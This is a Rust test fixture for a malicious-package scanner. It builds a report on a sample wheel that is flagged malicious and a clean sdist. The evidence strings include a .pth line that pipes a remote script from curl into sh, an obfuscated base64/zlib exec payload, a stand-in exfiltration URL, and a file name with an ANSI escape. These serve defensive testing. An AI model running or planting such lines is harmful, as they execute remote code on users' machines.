//! The shared fixture: one report with two artifacts (one malicious, with a decode chain
//! and execution contexts; one clean), rendered by every format's tests.
#![allow(dead_code)]

use assay_core::{
    ArtifactFormat, ArtifactReport, Capability, Confidence, ExecutionContext, Finding, Location,
    Report, Rule, RuleMeta, Severity, UnusedSuppression, Verdict,
};

static DECODE_THEN_EXEC: RuleMeta = RuleMeta {
    rule: Rule::DecodeThenExec,
    doc: "## What it does\nFinds code that decodes a string and executes the result.\n\n\
## Why it matters\nHiding the payload is what droppers do.\n\n\
## Example\n```python\nexec(base64.b64decode(PAYLOAD))\n```\n\n\
## False positives\nRare.\n\n## References\n- CWE-506\n",
};

static EXECUTABLE_PTH_LINE: RuleMeta = RuleMeta {
    rule: Rule::ExecutablePthLine,
    doc: "## What it does\nFlags `.pth` lines starting with `import`.\n\n## Why it matters\nThey run on every start.\n",
};

static CONSOLE_SCRIPT_SHADOWS: RuleMeta = RuleMeta {
    rule: Rule::ConsoleScriptShadowsCommand,
    doc: "",
};

/// Rule metadata for the fixture (IOC001 is left out on purpose: a finding of an
/// unlisted rule must still render).
pub fn rules() -> Vec<&'static RuleMeta> {
    vec![
        &DECODE_THEN_EXEC,
        &EXECUTABLE_PTH_LINE,
        &CONSOLE_SCRIPT_SHADOWS,
    ]
}

/// A finding of the catalog rule `code`; `_name` only documents the call (the catalog
/// fixes the name).
fn finding(
    code: &str,
    _name: &str,
    severity: Severity,
    confidence: Confidence,
    location: Location,
    evidence: &str,
) -> Finding {
    Finding::new(
        Rule::from_code(code).expect("catalog code"),
        severity,
        confidence,
        location,
        evidence,
    )
}

/// The fixture report. The tool version is pinned so snapshots do not change with it.
pub fn report() -> Report {
    let mut exec = finding(
        "PY001",
        "decode-then-exec",
        Severity::Critical,
        Confidence::High,
        Location {
            path: "evil_pkg/__init__.py".to_owned(),
            line: Some(3),
            column: Some(5),
            end_line: Some(3),
            decode_chain: vec![
                "line 3: base64.b64decode".to_owned(),
                "zlib.decompress".to_owned(),
            ],
        },
        "exec(zlib.decompress(base64.b64decode(PAYLOAD)))",
    );
    exec.context = Some(ExecutionContext::ImportTime);
    exec.capabilities = vec![Capability::CodeExec, Capability::Obfuscation];

    let mut pth = finding(
        "PKG001",
        "executable-pth-line",
        Severity::High,
        Confidence::High,
        Location {
            line: Some(1),
            column: Some(1),
            ..Location::file("evil_pkg_init.pth")
        },
        "import os; os.system('curl https://example.invalid/x.sh | sh')",
    );
    pth.context = Some(ExecutionContext::Startup);
    pth.capabilities = vec![Capability::Process, Capability::Network];

    let script = finding(
        "PKG002",
        "console-script-shadows-command",
        Severity::Medium,
        Confidence::Medium,
        Location {
            line: Some(2),
            ..Location::file("evil_pkg-1.0.0.dist-info/entry_points.txt")
        },
        "console script `pip` -> evil_pkg.cli:main",
    );

    // A hostile file name: a space, a `!`, and an ANSI escape the text output must defuse.
    let ioc = finding(
        "IOC001",
        "exfiltration-service-url",
        Severity::Low,
        Confidence::Low,
        Location::file("evil_pkg/odd name!\u{1b}[2J.py"),
        "https://example.invalid/stage2",
    );

    let malicious = ArtifactReport {
        path: "dist/evil_pkg-1.0.0-py3-none-any.whl".to_owned(),
        format: ArtifactFormat::Wheel,
        name: Some("evil-pkg".to_owned()),
        version: Some("1.0.0".to_owned()),
        verdict: Verdict::Malicious,
        score: 14.0,
        // Deliberately not sorted: reporters that sort must do it themselves.
        findings: vec![script, ioc, exec, pth],
        suppressed: 1,
        omitted: Vec::new(),
        rank: None,
        author: None,
        date: None,
        files: Vec::new(),
        packages: Vec::new(),
    };
    let clean = ArtifactReport {
        path: "dist/requests-2.32.3.tar.gz".to_owned(),
        format: ArtifactFormat::Sdist,
        name: Some("requests".to_owned()),
        version: Some("2.32.3".to_owned()),
        verdict: Verdict::Clean,
        score: 0.0,
        findings: Vec::new(),
        suppressed: 0,
        omitted: Vec::new(),
        rank: None,
        author: None,
        date: None,
        files: Vec::new(),
        packages: Vec::new(),
    };
    let unused = vec![UnusedSuppression {
        index: 1,
        rule: "PY004".to_owned(),
        reason: "vendored build helper".to_owned(),
    }];
    let mut report = Report::new(vec![malicious, clean], unused);
    report.tool.version = "0.0.0-test".to_owned();
    report
}

/// Render with a reporter into a string.
pub fn render(reporter: &dyn assay_report::Reporter, report: &Report) -> String {
    let mut out = Vec::new();
    let rules = rules();
    reporter
        .render(report, &rules, &mut out)
        .expect("rendering to a Vec cannot fail");
    String::from_utf8(out).expect("reporters write UTF-8")
}
